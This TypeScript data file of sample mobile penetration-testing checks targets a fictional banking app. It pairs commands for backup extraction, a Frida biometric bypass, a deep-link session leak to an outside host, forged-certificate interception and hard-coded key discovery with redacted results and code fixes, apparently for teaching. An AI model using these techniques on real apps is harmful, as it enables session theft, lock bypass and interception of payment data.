import type { RequestCheck } from './requests.ts';

/** Mobile Penetration Testing. Sample content: hosts, people and figures are invented. */
export const mobileChecks: readonly RequestCheck[] = [
  {
    request: ['$ adb backup -f stolen.ab com.kestrel.app', '$ unpack stolen.ab | cat {}'],
    part: { own: 'files/help.html', forged: 'databases/session.db' },
    answers: {
      own: ['<h1>Help</h1>', '<p>How to add a card …'],
      open: [
        'user   {!tester@kestrel.example!}',
        'token  {!eyJhbGci[redacted]!}',
        'pin    {!sha1, no salt!}',
      ],
      closed: ['{+stolen.ab: empty+}', '# the app doesn’t take part in backups'],
      other: ['cat: no such file'],
    },
    results: {
      own: 'The help page, as expected',
      open: 'The session, from a locked phone',
      closed: 'Nothing to unpack',
      other: 'No such file',
    },
    saw: {
      scanning: 'Saw nothing. The server was never asked.',
      encryption: 'The session lies beside the Keystore, in plain SQLite.',
      code: 'Saw allowBackup="true" in the manifest.',
    },
    seenBy: 'encryption',
    fix: ['android:allowBackup="true"', 'android:allowBackup="false"'],
  },
  {
    request: ['$ frida -U com.kestrel.app', '> BiometricGate.onResult({})'],
    part: { own: 'false', forged: 'true' },
    answers: {
      own: ['[gate] denied', '[view] LockActivity'],
      open: ['[gate] granted, no finger needed', '[view] {!AccountActivity!}', 'balance  {!€ 8,204.11!}'],
      closed: ['{+[keystore] key not released+}', '[view] LockActivity'],
      other: ['TypeError: expected a boolean'],
    },
    results: {
      own: 'Locked, as it should be',
      open: 'Open, without a finger',
      closed: 'Locked: hardware keeps the key',
      other: 'That isn’t a result',
    },
    saw: {
      scanning: 'Saw nothing. The prompt never leaves the phone.',
      encryption: 'Saw a key in hardware that nothing asks for.',
      code: 'BiometricGate.kt:33 believes a boolean.',
    },
    seenBy: 'code',
    fix: ['if (result.success) open()', 'open(result.cipher.unlock(key))'],
  },
  {
    request: ['$ adb shell am start -W -a android.intent.action.VIEW \\', '    -d "kestrel://open?url={}"'],
    part: { own: 'https://kestrel.example', forged: 'https://tester.example' },
    answers: {
      own: ['Status: ok', 'Activity: com.kestrel.app/.WebActivity'],
      open: [
        'Activity: com.kestrel.app/.WebActivity',
        '[bridge] getSession() called',
        '[bridge] caller: {!https://tester.example!}',
        '[bridge] return: {!eyJhbGciOiJSUzI1NiJ9.[redacted]!}',
      ],
      closed: ['{+Activity: com.android.chrome+}', '# opened outside the app, without the bridge'],
      other: ['Error: unable to resolve Intent'],
    },
    results: {
      own: 'Your own site, in the app',
      open: 'The session, on a stranger’s page',
      closed: 'Opened in the browser instead',
      other: 'Nothing opens that',
    },
    saw: {
      scanning: 'Saw nothing. The link is opened by the phone.',
      encryption: 'Saw nothing. The token itself is sound.',
      code: 'WebActivity.kt:71 hands the bridge to any host.',
    },
    seenBy: 'code',
    fix: ['web.addJavascriptInterface(bridge)', 'if (url.host in ours) web.add…(bridge)'],
  },
  {
    request: ['GET /v1/cards HTTP/2', 'host: api.kestrel.example', '# certificate shown to the app: {}'],
    part: { own: 'DigiCert, *.kestrel.example', forged: 'Tester CA, *.kestrel.example' },
    answers: {
      own: ['HTTP/2 200', '# encrypted: nobody in between can read it'],
      open: ['HTTP/2 200', 'authorization: {!Bearer eyJ[redacted]!}', '{"pan": {!"5301 [redacted] 4417"!}}'],
      closed: ['{+TLS alert: bad_certificate+}', '# the app hangs up before it sends anything'],
      other: ['TLS alert: unknown_ca'],
    },
    results: {
      own: '200, and private',
      open: '200, read by whoever runs the Wi-Fi',
      closed: 'No connection, as it should be',
      other: 'No connection',
    },
    saw: {
      scanning: 'Saw nothing. The server presents a good certificate.',
      encryption: 'One of three network stacks accepts any authority.',
      code: 'Saw an empty checkServerTrusted() in the ads library.',
    },
    seenBy: 'encryption',
    fix: ['trust: X509TrustAll()', 'trust: pinned(sha256/9tQ…)'],
  },
  {
    request: ['POST /collect HTTP/2', 'host: {}', '', '# sent by the chat library on start'],
    part: { own: 'chat.vendor.example', forged: 'our proxy' },
    answers: {
      own: ['HTTP/2 204', '# the body is encrypted on its way'],
      open: [
        'HTTP/2 204',
        '{"contacts": {!412 names and numbers!},',
        ' "imei": {!"35 [redacted]"!},',
        ' "clipboard": {!"8812 4470"!}}',
      ],
      closed: ['{+HTTP/2 204+}', '{"session": "random, no contacts"}'],
      other: ['could not resolve host'],
    },
    results: {
      own: '204, and you see nothing',
      open: '204, and the address book is in it',
      closed: '204, without your contacts',
      other: 'No such host',
    },
    saw: {
      scanning: 'The traffic of one start: 14 hosts, three of them nobody knew.',
      encryption: 'Saw nothing. It was sent over a sound connection.',
      code: 'Saw the library, version 3.1, with its defaults.',
    },
    seenBy: 'scanning',
    fix: ['Chat.start(context)', 'Chat.start(context, noContacts)'],
  },
  {
    request: ['$ jadx kestrel.apk --search "{}"'],
    part: { own: 'sign(', forged: 'HMAC_KEY' },
    answers: {
      own: ['a/b/c.java: String sign(byte[] body)', '# names are gone, the code isn’t'],
      open: [
        'a/b/k.java: HMAC_KEY = {!"9f41[redacted]"!}',
        '# found after {!25 minutes!}',
        '# every request can be signed',
      ],
      closed: ['{+no match+}', '# the server signs; the app has no key'],
      other: ['no match'],
    },
    results: {
      own: 'A method, and no secret',
      open: 'The signing key, in 25 minutes',
      closed: 'No key left to find',
      other: 'No match',
    },
    saw: {
      scanning: 'Saw nothing. Signed requests look like any other.',
      encryption: 'Saw a strong key in a weak place.',
      code: 'k.java holds the key that signs every payment.',
    },
    seenBy: 'code',
    fix: ['sign(body, BuildConfig.HMAC_KEY)', 'api.session().sign(body)'],
  },
];
